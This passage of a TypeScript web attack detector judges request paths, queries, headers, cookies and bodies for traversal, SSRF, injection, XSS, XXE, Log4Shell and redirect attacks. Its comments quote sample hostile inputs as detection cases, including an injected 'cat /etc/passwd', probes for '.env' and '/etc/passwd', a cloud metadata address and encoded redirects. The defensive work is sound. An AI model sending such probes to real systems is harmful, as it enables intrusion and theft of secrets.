    return (this.#hostName ??= authorityOf(this.#headers, 'host'))
  }
  #document = false
  /** judging a JSON, XML or multipart body's values (whose field names say what they hold) */
  #inBody = false
  readonly #keys = new Map<string, number>()
  /** JSON documents inside values are read, to two levels (a document in a field of a document) */
  #nested = 0
  /** the JSON text being judged, whether one around it nests objects, and whether it does (-1: not yet looked at) */
  #jsonDoc: unknown = undefined
  /** (json22) whether the JSON text being judged is a tool's configuration by its keys (`extends`, `compilerOptions`, `presets`, a source map's `mappings`) */
  #toolConfig = false
  #outerNests = false
  #nests = -1
  /** whether the JSON text being judged nests objects (a configuration's shape, not a form's few fields); looked at once, when asked */
  #nestedObjects(): boolean {
    if (this.#outerNests) return true
    if (this.#jsonDoc === undefined) return false
    if (this.#nests === -1) this.#nests = nestsObjects(this.#jsonDoc) ? 1 : 0
    return this.#nests === 1
  }

  #keyInfo(key: string): number {
    if (key === '') return 0
    let k = this.#keys.get(key)
    if (k === undefined) {
      k = (URL_PARAM.test(key) && !FILE_NAMED_KEY.test(key) && !VERSION_KEY.test(key) ? URL_KEY : 0) | (REDIRECT_PARAM.test(key) ? REDIRECT_KEY : 0) | (FILE_PARAM.test(key) ? FILE_KEY : 0) | (COMMAND_FIELD.test(key) ? COMMAND_KEY : 0)
      if (this.#keys.size >= MAX_KEYS) this.#keys.clear()
      if (key.length <= 64) this.#keys.set(key, k)
    }
    return k
  }
  /** user agents repeat across requests (and a browser's is full of `;` and `(`) */
  readonly #agent = memoize((raw) => {
    const text = this.#decode(raw)
    const markup = this.#decodedMarkup
    this.#inAgent = true
    const found = (SCANNER_AGENT.test(text.toLowerCase()) ? BIT.scanner : 0) | this.#value(text, HEADER, '', markup)
    this.#inAgent = false
    return found
  }, MAX_VERDICTS, MAX_VERDICT_KEY, this.#whole)
  /** judging a User-Agent header */
  #inAgent = false
  /** so do paths: traversal, scanners' probes, and everything a value can carry in each segment */
  readonly #path = memoize((raw) => this.#judgePath(raw), MAX_VERDICTS, MAX_VERDICT_KEY, this.#whole)
  /** and the browser's page URL (a page URL is never SSRF: its verdict depends on nothing else) */
  readonly #page = memoize((raw) => this.#value(raw.includes('%') || raw.includes('&') || raw.includes('\\') ? this.#decode(raw) : this.#asIs(raw), PAGE_URL, 'referer', this.#decodedMarkup), MAX_VERDICTS, MAX_VERDICT_KEY, this.#whole)
  /** and a session's cookies (judged apart from the request, so no URL in them is judged against its host) */
  readonly #cookies = memoize((text) => this.#cookieHeader(text), MAX_VERDICTS, MAX_VERDICT_KEY, this.#whole)

  #cookieHeader(text: string): number {
    let found = 0
    // each cookie's name and value, as the application reads them
    for (const c of text.split(';')) {
      const eq = c.indexOf('=')
      const cookieName = (eq === -1 ? c : c.slice(0, eq)).trim()
      if (cookieName.length > 1) found |= this.#value(cookieName.includes('%') ? this.#decode(cookieName) : this.#asIs(cookieName), NAME, '', this.#decodedMarkup)
      // a URL-encoded value is decoded as a form is (PHP does so): `+` is a space there
      if (eq !== -1) {
        const value = c.slice(eq + 1).trim()
        found |= this.#value(this.#decode(value, value.includes('%'), false), HEADER, cookieName.toLowerCase(), this.#decodedMarkup)
      }
    }
    return found
  }

  /**
   * `maxInspectBytes`, `maxInspectMs`: the config's insight.maxInspectBytes and insight.maxInspectTime (their
   * defaults live in the schema alone); without `maxInspectMs` a request is judged whole however long it takes
   */
  constructor(options: { maxInspectBytes: number; maxInspectMs?: number }) {
    this.#maxInspectBytes = options.maxInspectBytes
    this.#maxInspectMs = options.maxInspectMs ?? Infinity
  }

  /** The bounds it was built with (a reload compares them with the new config's). */
  get maxInspectBytes(): number {
    return this.#maxInspectBytes
  }
  get maxInspectMs(): number {
    return this.#maxInspectMs
  }

  /** When a judgement starting now runs out of its time budget (Infinity without one). */
  #deadlineFromNow(): number {
    return this.#maxInspectMs === Infinity ? Infinity : performance.now() + this.#maxInspectMs
  }

  /** Whether the last request judged ran out of its time budget: its values past that point were not judged. */
  get cut(): boolean {
    return this.#cut
  }

  /** Whether the last request judged had a header value longer than maxInspectBytes, judged on its first maxInspectBytes only. */
  get longHeader(): boolean {
    return this.#longHeader
  }

  /**
   * Where each attack type of `detect` was found, asked for a request already found to carry some
   * (nothing of it runs on the others). Each part of the request — the path, the query, the body, each
   * header — is judged again alone, with the context the detector reads (Host, X-Forwarded-Host,
   * Content-Type), by a detector of its own (no verdict remembered, so every value is judged and
   * seen); a type is placed at the first value that carried it, else at the part as a whole.
   */
  locate(inputs: AttackInputs): AttackMatch[] {
    /** X-Forwarded-Host, the path, the query and the body: the parts located whatever the clock says */
    const FIRST_PARTS = 4
    const probe = new AttackDetector({ maxInspectBytes: this.#maxInspectBytes, maxInspectMs: this.#maxInspectMs })
    // one time budget for all the parts judged again (each judged alone, a fresh budget each made a request's locating cost parts x budget)
    probe.#deadline = this.#deadlineFromNow()
    const context: Record<string, string | string[] | undefined> = {}
    for (const name of ['host', 'x-forwarded-host', 'content-type']) if (inputs.headers[name] !== undefined) context[name] = inputs.headers[name]
    const out: AttackMatch[] = []
    const placed = new Set<AttackType>()
    let over = false
    let judged = 0
    const judge = (part: string, partial: AttackInputs, whole: string, skip: readonly AttackType[] = []): void => {
      // past the one budget no header is judged again (a request of a thousand short headers was located whole: an audit's
      // finding); the path, the query and the body, judged first, always are (a busy machine's pause is no reason to place nothing)
      if (over || (++judged > FIRST_PARTS && probe.#deadline !== Infinity && (over = performance.now() >= probe.#deadline!))) return
      const hits: { found: number; where: string; value: string }[] = []
      probe.#hits = hits
      probe.#part = part
      const types = probe.detect(partial)
      for (const type of types) {
        if (placed.has(type) || skip.includes(type)) continue
        placed.add(type)
        const hit = hits.find((h) => (h.found & BIT[type]) !== 0)
        out.push({ type, where: hit?.where ?? part, value: (hit?.value ?? whole).slice(0, EXCERPT_MAX) })
      }
    }
    // what the context headers alone carry belongs to X-Forwarded-Host (Host and Content-Type are never judged)
    const none: AttackInputs = { path: '/', query: '', headers: context, body: null }
    judge('header:x-forwarded-host', none, headerText(context['x-forwarded-host']))
    const base = [...placed]
    judge('path', { ...none, path: inputs.path }, inputs.path, base)
    judge('query', { ...none, query: inputs.query }, inputs.query, base)
    if (inputs.body !== null && inputs.body.length > 0) judge('body', { ...none, body: inputs.body }, inputs.body.subarray(0, EXCERPT_MAX * 4).toString('utf8'), base)
    for (const name in inputs.headers) {
      if (name in context || inputs.headers[name] === undefined) continue
      judge(name === 'cookie' ? 'cookie' : `header:${name}`, { ...none, headers: { ...context, [name]: inputs.headers[name] } }, headerText(inputs.headers[name]), base)
    }
    probe.#hits = undefined
    // a JSON body's field named by its path in the document ($.user.name) rather than its key alone
    if (inputs.body !== null && out.some((m) => m.where.startsWith('body:'))) {
      const doc = parseJson(inputs.body.subarray(0, this.#maxInspectBytes).toString('utf8'))
      if (doc !== null && typeof doc === 'object') {
        for (let i = 0; i < out.length; i++) {
          const m = out[i]!
          if (!m.where.startsWith('body:')) continue
          const path = jsonPath(doc, m.where.slice(5), m.value)
          if (path !== undefined) out[i] = { ...m, where: `body:${path}` }
        }
      }
    }
    return out
  }

  /** while locating: the values that carried a class, and the part of the request being judged */
  #hits: { found: number; where: string; value: string }[] | undefined
  #part = ''
  /** reading a form body's fields */
  #inForm = false
  /** the body was longer than maxInspectBytes: its last field is cut */
  #bodyCut = false
  /**
   * (review of the twenty-ninth round) judging the one value the cut ended: a form's last field, a multipart body's last part, a
   * text body whole (not another field, nor a string inside a JSON body, whose members closeCutJson completed); (forty-second round) and
   * a JSON body's last string when the cut ended in it (`#cutString`)
   */
  #cutValue = false
  /** (forty-second round's review) the last value `#decode` or `#asIs` read, as sent and as decoded */
  #raw = ''
  #rawDecoded = ''
  /** what the application does to `#raw` before using it (APP_PLUS, APP_PERCENT: a query's or a form's value), done only where it is read */
  #rawApp = 0
  /** (forty-second round) the string a JSON body's cut ended in, its last one, read as cut (`#cutValue`) where the body's members are read */
  #cutString: string | undefined = undefined

  /** Leads this detector through its readings once (WARM_UP, WARM_UP_BODIES): V8 compiles its patterns now, not under the first requests. */
  warmUp(): void {
    for (const inputs of WARM_UP) this.detect(inputs)
    for (const [type, body] of WARM_UP_BODIES) this.detect({ path: '/api/items', query: '', headers: { host: 'warm-up.invalid', 'content-type': type }, body: Buffer.from(body) })
  }

  detect(inputs: AttackInputs): AttackType[] {
    this.#cut = false
    this.#longHeader = false
    this.#markupDecoded = 0
    // while locating, the clock is read on every sixteenth short value of all the parts, not of each
    if (this.#deadline === undefined) this.#sinceClock = 0
    this.#until = this.#deadline ?? this.#deadlineFromNow()
    judgeClock.at = this.#until
    judgeClock.passed = false
    this.#headers = inputs.headers
    this.#ownHosts = undefined
    this.#ownSiteNames = undefined
    this.#wholeQuery = false
    this.#inForm = false
    this.#bodyCut = false
    this.#cutValue = false
    this.#cutString = undefined
    this.#inAgent = false
    this.#hostName = undefined
    this.#document = false
    this.#inBody = false
    this.#nested = 0
    this.#jsonDoc = undefined
    this.#toolConfig = false
    this.#outerNests = false
    this.#nests = -1
    let found = this.#path(inputs.path)
    // a redirector's path given a host as its whole query: /out?evil.example
    if (inputs.query.length < 300 && inputs.path.length < 24 && REDIRECTOR.test(inputs.path) && HOST_QUERY.test(inputs.query)) found |= BIT.open_redirect

    const query = inputs.query.length > this.#maxInspectBytes ? inputs.query.slice(0, this.#maxInspectBytes) : inputs.query
    if (query !== '') found |= this.#pairs(query)

    const headers = inputs.headers
    for (const name in headers) {
      if (TRANSPORT_HEADERS.has(name) || name.startsWith('sec-ch-') || name.startsWith('sec-fetch-') || name.charCodeAt(0) === 58 /* :authority */) continue
      const v = headers[name]
      if (v === undefined) continue
      // (forty-sixth session's audit) cut as the query is: a 30 KiB header judged whole was one uninterruptible 10 ms judgement
      let text = headerText(v)
      if (text.length > this.#maxInspectBytes) {
        text = text.slice(0, this.#maxInspectBytes)
        this.#longHeader = true
      }
      if (name === 'user-agent') {
        found |= this.#agent(text)
        continue
      }
      if (name === 'cookie') {
        // a URL or an address in a cookie is judged against this request's host: such headers are not kept
        found |= text.includes(':') || text.includes('localhost') || ADDRESS.test(text) ? this.#cookieHeader(text) : this.#cookies(text)
        continue
      }
      // the browser's own page URL: a local one is no forgery
      if (name === 'referer' || name === 'origin') found |= text.length > 1 ? this.#page(text) : 0
      else if (text.length > 1) found |= this.#value(text.includes('%') || text.includes('&') || text.includes('\\') ? this.#decode(text) : this.#asIs(text), HEADER, name, this.#decodedMarkup)
      // Log4Shell hides in any header, those above included (one past JUDGE_WINDOW was read window by window above, and none past the
      // time budget: read whole again it held the event loop as the windows are there not to)
      if ((found & BIT.jndi) === 0 && !this.#cut && text.length <= JUDGE_WINDOW && (text.includes('${') || text.includes('%24%7b') || text.includes('%24%7B')) && jndiLookup(decodeValue(text).toLowerCase())) found |= BIT.jndi
      // (fifty-first round's second review) lookup rounds stopped by the clock cut the request, as a value's reading does
      if (judgeClock.passed) this.#cut = true
    }

    // the body last: the part that can be long (up to maxInspectBytes of values) gets what is left of the time budget
    const body = inputs.body
    if (body !== null && body.length > 0) {
      found |= this.#body(body, headerText(inputs.headers['content-type']).toLowerCase())
      this.#bodyCut = false
      this.#inBody = false
      this.#document = false
    }
    if (found === 0) return []
    const out: AttackType[] = []
    for (const t of ATTACK_TYPES) if (found & BIT[t]) out.push(t)
    return out
  }

  /** The path: as a whole (traversal, probes, splitting, redirects), then each segment as a value. */
  #judgePath(raw: string): number {
    const path = this.#decode(raw)
    const pathMarkup = this.#decodedMarkup
    const lower = path.toLowerCase()
    // a probe for a backup or a configuration file (a climb to one is traversal as well, judged below)
    let found = 0
    if (lower.includes('..') || lower.includes('0x2e') || lower.includes('\0')) {
      if (/(?:^|[/\\])\.\.(?:[/\\;]|$)/.test(lower) && /(?:[/\\]\.\.){2,}|\.\.[/\\].{0,200}\.\.[/\\]/.test(lower)) found |= BIT.path_traversal
      else if (anyOf(TRAVERSAL, lower)) found |= BIT.path_traversal
    } else if (SYSTEM_FILES.some((re) => re.test(lower))) found |= BIT.path_traversal // GET /etc/passwd
    // a probe for a backup or a configuration file (a climb to one that is no traversal, `/cgi-bin/../abyss.conf`, still a probe; forty-ninth
    // round: and one that is, `/..;/../.env`, both — the climb is the way, the application's file named what is probed for, as a sweep's
    // list writes it; a climb to a system file, `/../../etc/passwd`, stays traversal)
    // (twenty-ninth round) a search engine's hidden index beside its API's `_` segment (Elasticsearch's and OpenSearch's
    // `/.ds-metrics-2023.03.22-000001/_lifecycle/explain`, `/_template/.cloud-hot-warm-allocation-0`, `/.kibana/_search`) is no dotfile probed
    // (forty-eighth round) blanks after the name, which Windows' file system drops (`/.env%20`)
    const scan = isBlankEnd(lower) ? lower.trimEnd() : lower
    const probed = scan.includes('/.') && scan.includes('/_') ? scan.replace(SEARCH_INDEX, '/') : scan
    if (SCANNER_PATH.test(scan) || (scan.length > 1 && (!scan.includes('..') || (found & BIT.path_traversal) === 0 || !SYSTEM_FILES.some((re) => re.test(lower))) && ((BACKUP_PATH.test(probed) && !REVERSE_DNS_END.test(probed)) || PROBED_FILE.test(scan) || (ARCHIVE_END.includes(scan.charAt(scan.length - 1)) && BACKUP_ARCHIVE.test(scan)) || (scan.endsWith('.xml') && CONFIG_XML.test(scan)) || scriptSource(scan)))) found |= BIT.scanner
    if (splitting(lower) || (raw.includes('%') && splitting(raw.toLowerCase())) || nestedSplitting(lower)) found |= BIT.crlf
    // //evil.example  /\evil.example  /%09/evil.example  /https://evil.example
    if (/^\/(?:[/\\\t\s]|%09|%5c|https?:|\/\/|[\u3031-\u3035\u309d\u30fc\uff70])/.test(lower) && DISGUISED_URL.test(lower.replace(/^\/(?=https?:)/, ''))) found |= BIT.open_redirect
    else if (/^\/https?:\/\/[^/]/.test(lower) || REDIRECT_PATH.test(lower) || HOST_CLIMB_PATH.test(raw.toLowerCase()) || BLANK_HOST_PATH.test(lower) || CLIMB_TO_HOST.test(lower)) found |= BIT.open_redirect
    // markup or a script whose own slashes split it across segments (</x>, /.*/m, confirm(/x/))
    if ((lower.includes('<') || lower.includes('(')) && GATE.xss.test(lower) && anyOf(XSS, lower)) found |= BIT.xss
    // (twenty-ninth round) SQL written with empty comments for its blanks, which split it across segments
    // (`/items/id='union/**/select/**/0,1--`): from the segment the first comment follows on, read as one value
    const comment = path.indexOf('/**/')
    // (review: at most 2,000 characters of it, as a value's cost is bounded)
    if (comment > 0) {
      const from = path.lastIndexOf('/', comment - 1) + 1
      found |= this.#value(path.slice(from, from + 2000), PATH, '', pathMarkup) & BIT.sqli
    }
    // each segment is a value an application reads (/users/{name}): every class but the URL ones
    let start = 0
    for (let i = 0; i <= raw.length; i++) {
      if (i !== raw.length && raw.charCodeAt(i) !== 47) continue
      if (i - start > 1) {
        const seg = raw.slice(start, i)
        if (suspicious(seg)) found |= this.#value(this.#decode(seg), PATH, '', this.#decodedMarkup)
      }
      start = i + 1
    }
    return found
  }

  /** `a=1&b=2` (a query or a form): each name, and each value with its name. */
  #pairs(text: string): number {
    let found = 0
    let start = 0
    let count = 0
    while (start <= text.length && count++ < 512) {
      let end = text.indexOf('&', start)
      if (end === -1) end = text.length
      const eq = text.indexOf('=', start)
      const hasValue = eq !== -1 && eq < end
      const rawName = text.slice(start, hasValue ? eq : end)
      const name = rawName.length > 0 ? this.#decode(rawName, true) : this.#asIs('')
      if (name.length > 1 && suspicious(name)) found |= this.#value(name, NAME, '', this.#decodedMarkup)
      // (sixty-second round) a field named for the class loader, no other signal in it (CLASS_LOADER_PATH)
      // (read-through: the pattern alone, anchored and case-blind — a prefilter on `lass`/`LASS` passed `cLaSs.module.classLoader`)
      if (name.length > 16 && CLASS_LOADER_NAME.test(name)) found |= BIT.rce
      // (fourteenth round) a query that is one URL or address and nothing else (`/fetch?http://169.254.169.254/`,
      // `?127.0.0.1:22`): what a proxy or a fetcher reads as its target
      if (!hasValue && start === 0 && end === text.length && name.length > 2 && (name.includes(':') || ADDRESS.test(name))) {
        this.#wholeQuery = true
        found |= this.#url(name.toLowerCase(), '', 0, VALUE)
        this.#wholeQuery = false
      }
      if (hasValue && end - eq > 2) {
        // (forty-third round) the value the body's cut ended, without the escape the cut split (`…%2`): the rest of it was not seen
        const cut = this.#bodyCut && this.#inForm && end === text.length
        const raw = cut ? text.slice(eq + 1, end).replace(CUT_ESCAPE, '') : text.slice(eq + 1, end)
        this.#cutValue = cut
        found |= this.#value(this.#decode(raw, true), VALUE, name.toLowerCase(), this.#decodedMarkup)
        this.#cutValue = false
        if ((found & BIT.open_redirect) === 0 && raw.includes('%')) found |= this.#encodedRedirect(raw, name.toLowerCase())
      }
      start = end + 1
    }
    return found
  }

  #body(whole: Buffer, type: string): number {
    const body = whole.length > this.#maxInspectBytes ? whole.subarray(0, this.#maxInspectBytes) : whole
    this.#bodyCut = body !== whole
    const json = type.includes('json') || (type === '' && (body[0] === 0x7b || body[0] === 0x5b))
    // nothing suspicious anywhere in the bytes: no value can be, and nothing need be decoded or parsed;
    // but a few fields of JSON are read all the same (`{"webhook_url":"127.0.0.1"}`,
    // `{"path":"C:/log/error.log"}`, `{"cmd":"ipconfig"}`: a bare address, path or command needs no
    // special byte, and JSON's own `:` and `"` hide the rest)
    const small = json && body.length <= SMALL_JSON
    if (!small && !suspiciousBytes(body, json ? JSON_SPECIAL_BYTES : SPECIAL_BYTES)) return 0
    const text = body.toString('utf8')
    let found = 0
    if (json) {
      if (!small && !suspiciousJson(text)) return 0
      let doc = parseJson(text)
      // (eighteenth round) cut at maxInspectBytes: its members complete before the cut are read as JSON (a 20 KiB
      // package manifest's `scripts` are command fields still, not text)
      if (doc === undefined && whole.length > this.#maxInspectBytes) {
        const closed = completeCutJson(text)
        if (closed !== undefined) {
          doc = parseJson(closed)
          // (forty-second round) cut in its last string (`{"document": "{\"cells\": [{…` past 16 KiB, a notebook sent as a field's
          // text): that string is the value the cut ended, and a JSON text there is completed as a form's cut field is
          if (doc !== undefined && doc !== TOO_DEEP && CUT_LAST_STRING.test(closed)) this.#cutString = cutString(closed, doc)
        }
      }
      // not JSON after all, or nested past the ceiling: read it as text
      if (doc === undefined || doc === TOO_DEEP) return this.#value(this.#decode(text), VALUE, '', this.#decodedMarkup)
      return this.#json(doc, text)
    }
    if (type.includes('x-www-form-urlencoded')) {
      // (a form's field may end on a break typed in a text area: `CRLF_TRAIL` is for queries, paths and headers)
      this.#inForm = true
      found = this.#pairs(text)
      this.#inForm = false
      return found
    }
    if (type.startsWith('multipart/')) {
      const parts: string[] = []
      multipartParts(text, BOUNDARY.exec(type)?.[1] ?? '', parts)
      // a part's field is a body's (its lines reach no response header; its name may say it holds a command)
      this.#inBody = true
      for (let i = 0; i + 1 < parts.length; i += 2) {
        this.#cutValue = this.#bodyCut && i + 2 >= parts.length
        found |= this.#value(this.#decode(parts[i + 1]!), VALUE, parts[i]!.toLowerCase(), this.#decodedMarkup)
      }
      this.#cutValue = false
      return found
    }
    const lower = text.toLowerCase()
    if (type.includes('xml') || (type === '' && lower.trimStart().startsWith('<?xml'))) return this.#xml(text, lower)
    this.#cutValue = this.#bodyCut
    found = this.#value(this.#decode(text), VALUE, '', this.#decodedMarkup)
    this.#cutValue = false
    return found
  }

  /** An XML document: as a whole for entities, includes and script markup, then each text and attribute as a value. */
  #xml(text: string, lower: string): number {
    let found = 0
    if ((lower.includes('<!') || lower.includes('xi:')) && (anyOf(XXE, lower) || plusBlanksXxe(lower))) found |= BIT.xxe
    if (SSI.test(lower)) found |= BIT.ssi
    if (anyOf(XSS_TAGS, lower)) found |= BIT.xss
    // then its text and attributes, each a value with its element's or attribute's name
    const texts: string[] = []
    // (review: its long texts unescaped within the time budget; past it, the texts read so far are judged, and the request is cut)
    if (!xmlTexts(text, texts, this.#until)) this.#cut = true
    this.#document = texts.length > DOCUMENT_VALUES * 2
    this.#inBody = true
    for (let i = 0; i + 1 < texts.length; i += 2) found |= this.#value(this.#decode(texts[i + 1]!), VALUE, texts[i]!, this.#decodedMarkup)
    if (found & BIT.xxe) found &= ~(BIT.ssrf | BIT.path_traversal)
    return found
  }

  /**
   * An XML document given as a value (a field holding a SOAP envelope, a probe wrapped in one:
   * `<?xml version="1.0"?><root><a probe=";ps"></a></root>`) is read as a body's XML is, and the value
   * as a whole too (what its markup carries around the texts).
   */
  #queryValue(decoded: string): number {
    let found = 0
    this.#nested++
    for (const pair of decoded.split('&', 32)) {
      const eq = pair.indexOf('=')
      if (eq > 0 && eq < pair.length - 1) found |= this.#judge(pair.slice(eq + 1), VALUE, pair.slice(0, eq).toLowerCase())
    }
    this.#nested--
    return found
  }

  #xmlValue(decoded: string): number {
    const outer = this.#document
    const outerBody = this.#inBody
    this.#nested++
    const found = this.#xml(decoded, decoded.toLowerCase())
    this.#nested--
    this.#document = outer
    this.#inBody = outerBody
    return found
  }

  /**
   * A parsed JSON document: its keys (MongoDB operators among them) and its distinct strings, each
   * under the key it came with; more than a few strings or keys make it a document (a configuration,
   * a manifest) rather than a few fields, which some classes judge differently.
   */
  #json(doc: unknown, text?: string): number {
    const values = new Map<string, string>()
    const keys = new Set<string>()
    const depth = jsonStrings(doc, values, keys)
    const outer = this.#document
    const outerBody = this.#inBody
    const outerDoc = this.#jsonDoc
    const outerNests = this.#outerNests
    const outerKnown = this.#nests
    const outerTool = this.#toolConfig
    // a JSON text inside a document's field (a container's `createOptions`) is part of that document, a
    // document naming its schema is one;
    // nesting and several fields together make one too (a tool's configuration: `hooks`, `generate`, an
    // `endpoint` on localhost), where a request's few fields stay flat or shallow
    this.#document = outer || keys.has('$schema') || values.size > DOCUMENT_VALUES || keys.size > DOCUMENT_KEYS || depth >= DOCUMENT_DEPTH || (keys.size >= NESTED_DOCUMENT_KEYS && depth >= DOCUMENT_DEPTH - 1)
    this.#inBody = true
    // (json22) a tool's configuration by its keys (a tsconfig's `extends` and `compilerOptions`, babel's `presets`, a source
    // map's `mappings` with its `sources`): its climbs name the project's own files, as a nested configuration's do
    this.#toolConfig = outerTool || keys.has('extends') || keys.has('compilerOptions') || keys.has('presets') || (keys.has('mappings') && keys.has('sources'))
    this.#outerNests = outerNests || (outerDoc !== undefined && (outerKnown === 1 || (outerKnown === -1 && nestsObjects(outerDoc))))
    this.#jsonDoc = doc
    this.#nests = -1
    // (the cut string is the body's own document's, read at its level only; forty-third round's review: only where no other value has
    // its text — a complete value of the same text is no value the cut ended)
    const cutString = this.#cutString !== undefined && occurrences(doc, this.#cutString) === 1 ? this.#cutString : undefined
    this.#cutString = undefined
    this.#nested++
    let found = 0
    let filterDoc: boolean | undefined
    let catalogue: boolean | undefined
    let typeOperator: boolean | undefined
    for (const k of keys) {
      // (twenty-ninth round) a `$type` naming no BSON type is a record's type, as Box's metadata writes it
      // (`"$type": "properties-6bcba49f-…"`, beside `$id`, `$parent`, `$scope`): MongoDB's `$type` takes a type's name or number
      // (forty-fourth round) and only in an object of operators alone: a design token's `$type` has `$value` beside it
      if (k === '$type' && !(typeOperator ??= typeOperatorGiven(doc, values))) continue
      // (sixteenth round) also a field's path ending in an operator (`{"username.$gt": ""}`)
      if (((k.charCodeAt(0) === 36 && NOSQL_OPERATORS.has(k.toLowerCase())) || (k.includes('.$') && NOSQL_OPERATORS.has(k.slice(k.lastIndexOf('.') + 1).toLowerCase()))) && !(filterDoc ??= dataFilter(doc)) && !(catalogue ??= dollarCatalogue(doc, keys))) found |= BIT.nosqli
      else if (k.length > 1 && suspicious(k)) found |= this.#value(this.#decode(k), NAME, '', this.#decodedMarkup)
    }
    // (twenty-seventh round) a JSON Schema by its own keywords (`$ref`, `$defs`, `additionalProperties`, `patternProperties`): its
    // `pattern` values are regular expressions for the validator (`^Y|M|W|D$`, `(?i).*<script>.*`), not text anything runs
    // (review: only a subschema's, written nowhere else in the document; a request's `pattern` field is still read, whatever keys
    // are sent beside it)
    const schema = keys.has('$schema') || keys.has('$ref') || keys.has('$defs') || keys.has('additionalProperties') || keys.has('patternProperties')
    const patterns = schema && keys.has('pattern') ? schemaPatterns(doc) : undefined
    // (twenty-seventh round) a GitHub Actions workflow (`jobs` whose jobs have `runs-on` and `steps`): its jobs' and steps' `if` are the
    // runner's expressions (`always() && steps.x.outcome != 'skipped'`), and its `${{ … }}` are replaced by the runner before anything
    // reads the value (`${{ hashFiles('pyproject.toml') }}`): read without them (review: only where a workflow puts them, written
    // nowhere else in the document; an expression with a shell's or a page's metacharacters is read)
    const workflow = keys.has('runs-on') && keys.has('steps')
    const conditions = workflow && keys.has('if') ? workflowConditions(doc) : undefined
    // (thirty-second round) a HAL resource's own links to the loopback host (Spring HATEOAS's `"_links": {"self": {"href": "http://localhost/orders/1"}}`): no
    // target the server is asked to fetch; a private or a metadata address there is still read
    const links = keys.has('_links') && keys.has('href') ? halLinks(doc) : undefined
    for (const [v, key] of values) {
      if ((key === 'pattern' && patterns?.has(v)) || (key === 'if' && conditions?.has(v))) continue
      this.#cutValue = v === cutString
      const bits = this.#value(this.#decode(workflow && v.includes('${{') ? v.replace(RUNNER_EXPRESSIONS, 'x') : v), VALUE, key.toLowerCase(), this.#decodedMarkup)
      this.#cutValue = false
      found |= (bits & BIT.ssrf) !== 0 && key === 'href' && links?.has(v) && LOOPBACK_LINK.test(v) ? bits & ~BIT.ssrf : bits
      if ((found & BIT.open_redirect) === 0 && v.includes('%')) found |= this.#encodedRedirect(v, key.toLowerCase())
    }
    this.#nested--
    this.#document = outer
    this.#inBody = outerBody
    this.#jsonDoc = outerDoc
    this.#outerNests = outerNests
    this.#nests = outerKnown
    this.#toolConfig = outerTool
    // (forty-third round's review) a document of more strings than are read one by one is read whole as well: a value past the ceiling
    // is not left unjudged (as text: not parsed again, `#nested` at its ceiling for that reading)
    if (text !== undefined && (values.size >= MAX_VALUES || keys.size >= MAX_VALUES)) {
      const nested = this.#nested
      this.#nested = 2
      found |= this.#value(this.#decode(text), VALUE, '', this.#decodedMarkup)
      this.#nested = nested
    }
    return found
  }

  /**
   * (twelfth round) A redirect target to another host whose letters, dots or dashes are percent-encoded as
   * sent (`h%74%74ps://evil.example`, `https://e%76il.example`, `%68%74%74%70%73%3a%2f%2fevil.example`): no browser
   * or client encodes unreserved characters; a filter's evasion does. Judged on the raw value, before decoding.
   */
  #encodedRedirect(raw: string, key: string): number {
    if ((this.#keyInfo(key) & REDIRECT_KEY) === 0 || this.#document || (this.#inBody && !BODY_REDIRECT.test(key)) || raw.length > 1000 || !ENCODED_UNRESERVED.test(raw)) return 0
    const m = ABSOLUTE_URL.exec(decodeValue(raw).toLowerCase())
    if (m === null) return 0
    const target = hostOf(m[1]!.replace(TRAILING_PORT, ''))
    return target.includes('.') && !this.#own.some((own) => target === own || target.endsWith(`.${own}`)) ? BIT.open_redirect : 0
  }

  /**
   * A value decoded as the application sees it (decode.ts), noting in `#decodedMarkup` whether markup may have come from a decoding the
   * application may not do (`byApp`: whether it percent-decodes the value once and reads `+` as a blank, as for a query's or a form's value;
   * a cookie's value is decoded by some frameworks and reflected as sent by others).
   */
  #decode(raw: string, plusIsSpace = false, byApp = plusIsSpace): string {
    // (a long value piece by piece, the time budget read between pieces: past it the value is not judged)
    const v = raw.length > DECODE_PIECE ? decodeLongValue(raw, plusIsSpace, byApp, this.#until) : decodeValue(raw, plusIsSpace, byApp)
    if (lastDecode.cut) this.#cut = true
    // (forty-second round's review) the value as the application has it, its own percent-decoding done (a query's, a form's): only where an
    // SVG element's comments could need it
    this.#raw = raw
    this.#rawApp = byApp ? (plusIsSpace ? APP_PLUS : 0) | APP_PERCENT : 0
    this.#rawDecoded = v
    const plus = plusIsSpace && !byApp && raw.includes('+')
    this.#decodedMarkup = (lastDecode.markup || plus ? MADE_MARKUP : 0) | (lastDecode.decoded || plus ? DECODED : 0)
    return v
  }
  /** A value judged as it came: no decoding made its markup. */
  #asIs(raw: string): string {
    this.#decodedMarkup = 0
    this.#raw = raw
    this.#rawApp = 0
    this.#rawDecoded = raw
    return raw
  }

  /**
   * A JSON document given as a value, parsed; undefined where the text is none (or nests past the ceiling).
   * (twenty-ninth round) Cut where the body was cut (a form's `payload=` of a 20 KiB manifest, its last field): its members complete
   * before the cut are read as JSON, as a JSON body's are
   * (review: only the value the cut ended, and only at its own level; a JSON prefix, its cut member completed — not any field opening on
   * `{"a":1,` before a probe, `{"a":1,;cat /etc/passwd`, in a body padded past the cut)
   * (forty-second round's review: inside a body's last string, not when a tag the cut left open ends it — dropping it there hid `<img
   * src=x onerror=…` that the string read as text showed)
   */
  #valueDocument(text: string): unknown {
    const t = text.length > 20 && (text.charCodeAt(text.length - 1) <= 32 || text.charCodeAt(0) <= 32) ? text.trim() : text
    const first = t.charCodeAt(0)
    if (t.length <= 20 || (first !== 123 && first !== 91)) return undefined
    let doc = t.endsWith(first === 123 ? '}' : ']') ? parseJson(t) : undefined
    if (doc === undefined && this.#cutValue && (this.#nested === 0 || (this.#nested === 1 && !openTagEnds(t)))) {
      const closed = completeCutJson(t)
      if (closed !== undefined) doc = parseJson(closed)
      // (forty-third round) its own last string then the value the cut ended, as a body's is
      if (closed !== undefined && doc !== undefined && doc !== TOO_DEEP && CUT_LAST_STRING.test(closed)) this.#cutString = cutString(closed, doc)
    }
    return doc === TOO_DEEP ? undefined : doc
  }

  /** The classes one decoded value carries (and, while locating, where it was). */
  #value(decoded: string, mode: Mode, key: string, markup = 0): number {
    // (forty-second round's review) the value as sent, where the last decoding made this one (judging it may decode others)
    const raw = this.#rawDecoded === decoded ? this.#raw : undefined
    const rawApp = this.#rawApp
    // the time budget (insight.maxInspectTime), read on long values and on every sixteenth short one: past it the
    // request's remaining values are not judged (counted by the insight stage)
    if (this.#cut) return 0
    if (this.#until !== Infinity && (decoded.length > 64 || (++this.#sinceClock & 15) === 0) && performance.now() >= this.#until) {
      this.#cut = true
      return 0
    }
